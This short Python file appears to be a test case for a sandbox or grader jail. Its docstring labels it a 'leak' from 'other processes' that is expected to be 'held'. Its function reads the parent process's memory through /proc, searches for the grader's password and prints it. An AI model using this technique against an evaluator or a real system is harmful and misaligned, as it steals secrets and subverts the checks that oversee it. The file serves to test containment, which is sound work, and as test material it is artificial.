"""Searches its parent's memory for a password and prints it.

family: other processes
kind: leak
held: jail
"""

import os


def is_set(a, b, c):
    with open(f"/proc/{os.getppid()}/maps") as maps, open(f"/proc/{os.getppid()}/mem", "rb") as memory:
        for line in maps:
            start, end = (int(word, 16) for word in line.split()[0].split("-"))
            if "rw" in line.split()[1]:
                memory.seek(start)
                at = (data := memory.read(end - start)).find(b"the grader's own " + b"password")
                if at >= 0:
                    print(data[at : at + 25].decode())
                    raise ValueError(data[at : at + 25].decode())
